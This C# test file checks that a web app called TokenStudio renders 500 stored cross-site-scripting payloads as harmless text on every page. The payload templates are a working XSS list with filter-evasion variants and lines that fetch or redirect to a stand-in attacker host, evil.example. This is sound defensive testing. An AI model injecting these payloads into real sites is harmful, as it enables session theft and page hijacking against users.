using AngleSharp.Html.Parser;
using TokenStudio.Model.Documents;
using TokenStudio.Model.Presets;

namespace TokenStudio.Tests;

/// <summary>S-02: five hundred ways of writing a script, in every text of a scenario, in every page that shows it: none of them is one.</summary>
public sealed class StoredScriptTests : IDisposable
{
    // The marks of an attack that came through: what a payload would have made of the page.
    static readonly string[] Shells =
    [
        "<script>{0}</script>", "<ScRiPt >{0}</sCrIpT>", "\"><script>{0}</script>", "'><script>{0}</script>", "</title><script>{0}</script>", "</textarea><script>{0}</script>", "</style><script>{0}</script>",
        "--><script>{0}</script>", "]]><script>{0}</script>", "</script><script>{0}</script>", "<img src=x onerror={0}>", "\"><img src=x onerror={0}>", "<img/src=`x`onerror={0}>", "<svg onload={0}>", "<svg/onload={0}>",
        "</svg><script>{0}</script>", "</text><script>{0}</script>", "</desc><svg onload={0}>", "<body onload={0}>", "<iframe src=javascript:{0}>", "<iframe srcdoc='<script>{0}</script>'>", "<a href=javascript:{0}>x</a>",
        "javascript:{0}", "JaVaScRiPt:{0}", "data:text/html,<script>{0}</script>", "\" onmouseover=\"{0}", "' onmouseover='{0}", "\" autofocus onfocus=\"{0}", "`onclick={0}`", "<input autofocus onfocus={0}>", "<details open ontoggle={0}>",
        "<video><source onerror={0}>", "<object data=javascript:{0}>", "<embed src=javascript:{0}>", "<math><mtext></mtext><script>{0}</script></math>", "<base href=//evil.example/>{0}", "<meta http-equiv=refresh content=0;url=javascript:{0}>",
        "<link rel=stylesheet href=//evil.example/>{0}", "<form action=javascript:{0}><button>", "<style>@import '//evil.example'</style>{0}", "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "\\u003cscript\\u003e{0}", "%3Cscript%3E{0}",
        "<<script>{0}//<</script>", "<scr<script>ipt>{0}</scr</script>ipt>", "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "<template><script>{0}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
    ];

    static readonly string[] Calls = ["planted()", "planted(1)", "window.planted=1", "top['planted']()", "eval('planted()')", "planted`1`", "setTimeout('planted()')", "location='//evil.example/planted'", "\\u0070lanted()", "fetch('//evil.example/planted')"];

    static readonly string[] Texts = ["name", "description", "symbol", "title", "url", "note", "remark"];
    static readonly string[] Sections = ["overview", "supply", "emissions", "allocation", "grants", "simulate"];

    readonly GuardHost host = new();

    public void Dispose() => host.Dispose();

    [Fact]
    public async Task Payloads_InEveryText_AreTextOnEveryPage()
    {
        string[] payloads = [.. from shell in Shells from call in Calls select string.Format(System.Globalization.CultureInfo.InvariantCulture, shell, call)];
        Assert.Equal(500, payloads.Length);
        using var owner = host.Client();
        var clean = await Counts(owner, NodeWriter.WriteCompact(PresetLibrary.Find("meridian")!.Document), null);
        var next = 0;
        var shown = 0;
        while (next < payloads.Length)
        {
            var document = (ObjectNode)Planted(PresetLibrary.Find("meridian")!.Document, payloads, ref next);
            shown += (await Counts(owner, NodeWriter.WriteCompact(document), clean)).Values.Sum(c => c.Texts);
        }

        Assert.True(shown >= 500, $"Only {shown} payloads were seen as text.");
    }

    // How many scripts and frames each page has; with the clean ones given, that there are no more of them, nor anything that runs.
    async Task<Dictionary<string, (int Scripts, int Texts)>> Counts(GuardClient owner, string file, Dictionary<string, (int Scripts, int Texts)>? clean)
    {
        using var made = await owner.Send("POST", GuardClient.Scenarios, file);
        Assert.Equal(System.Net.HttpStatusCode.Created, made.StatusCode);
        var scenario = made.Headers.Location!.OriginalString;
        var (_, link) = await owner.Share(scenario);
        host.Clock.Advance(TimeSpan.FromSeconds(10));
        var counts = new Dictionary<string, (int, int)>();
        foreach (var (name, path) in Sections.Select(s => (s, $"/scenarios/{scenario.Split('/')[^1]}/{s}")).Append(("shared", link)).Append(("start", "/")))
        {
            using var response = await owner.Get(path, ("Accept", "text/html"));
            var page = await new HtmlParser().ParseDocumentAsync(await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
            counts[name] = (page.QuerySelectorAll("script, iframe, object, embed, base, meta[http-equiv], form[action^=javascript]").Length, page.QuerySelectorAll("*").Count(e => e.ChildElementCount == 0 && e.TextContent.Contains("planted", StringComparison.Ordinal)));
            if (clean is null) continue;
            Assert.Equal(clean[name].Scripts, counts[name].Item1);
            foreach (var element in page.QuerySelectorAll("*"))
            {
                foreach (var attribute in element.Attributes)
                {
                    Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{name}: {element.OuterHtml}");
                    if (attribute.Name is "href" or "src" or "action" or "xlink:href" or "srcdoc" or "formaction") Assert.False(attribute.Value.TrimStart().StartsWith("javascript:", StringComparison.OrdinalIgnoreCase) || attribute.Value.Contains("text/html", StringComparison.OrdinalIgnoreCase) || attribute.Value.Contains("evil.example", StringComparison.OrdinalIgnoreCase), $"{name}: {element.OuterHtml}");
                }

                Assert.False(element.TagName.Equals("SCRIPT", StringComparison.OrdinalIgnoreCase) && element.TextContent.Contains("planted", StringComparison.Ordinal) && element.GetAttribute("type") is null or "module", name);
            }
        }

        return counts;
    }

    static Node Planted(Node node, string[] payloads, ref int next)
    {
        switch (node)
        {
            case ObjectNode o:
                var members = new List<Member>();
                foreach (var member in o.Members) members.Add(Texts.Contains(member.Name) && member.Value is TextNode && next < payloads.Length ? new(member.Name, Node.Of(payloads[next++])) : new(member.Name, Planted(member.Value, payloads, ref next)));
                return new ObjectNode([.. members]);
            case ListNode list:
                var items = new List<Node>();
                foreach (var item in list.Items) items.Add(Planted(item, payloads, ref next));
                return new ListNode([.. items]);
            default:
                return node;
        }
    }
}
